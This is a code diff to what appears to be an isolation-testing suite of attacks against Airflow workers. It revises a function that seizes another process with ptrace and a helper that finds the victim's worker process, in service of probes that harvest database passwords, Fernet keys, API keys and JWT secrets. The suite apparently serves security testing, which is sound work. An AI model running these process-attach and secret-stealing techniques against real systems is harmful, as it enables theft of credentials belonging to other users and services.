@@ -14,9 +14,8 @@ from pathlib import Path
 from mallory_attacks import loot
 from mallory_attacks.attack import Facts, Refused, attack
 
-PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
+PTRACE_SEIZE = 0x4206  # linux/ptrace.h
 SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438
-SYS_PROCESS_VM_READV = 310  # x86_64 and below; only tried where it exists
 KINDS = ("database_password", "broker_password", "fernet_key", "api_key", "jwt_secret", "admin_password")
 
 
@@ -130,11 +129,15 @@ def ptrace_ancestors(facts: Facts) -> str:
 
 
 def _ptrace(pid: int) -> str:
-    libc = ctypes.CDLL(None, use_errno=True)
-    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
-    if libc.ptrace(PTRACE_SEIZE, pid, None, None) != 0:
-        raise Refused(f"ptrace: {os.strerror(ctypes.get_errno())}")
-    # A seized process runs on; the kernel detaches when this process ends.
+    """Attach from a process of its own, whose end detaches again."""
+    child = os.fork()
+    if child == 0:
+        libc = ctypes.CDLL(None, use_errno=True)
+        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+        os._exit(0 if libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0 else ctypes.get_errno())
+    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
+    if code != 0:
+        raise Refused(f"ptrace: {os.strerror(code)}")
     return f"attached to {loot.command_of(pid)}"
 
 
@@ -282,6 +285,6 @@ def tokens_of_other_tasks(facts: Facts) -> str:
 def _victims_process(facts: Facts) -> int:
     for pid in loot.processes():
         with contextlib.suppress(OSError):
-            if facts.victim["hold"] in Path(f"/proc/{pid}/cmdline").read_text(errors="replace"):
+            if loot.command_of(pid).startswith(f"airflow worker -- {facts.victim['hold']}"):
                 return pid
     raise LookupError("the victim's process is not on this worker")
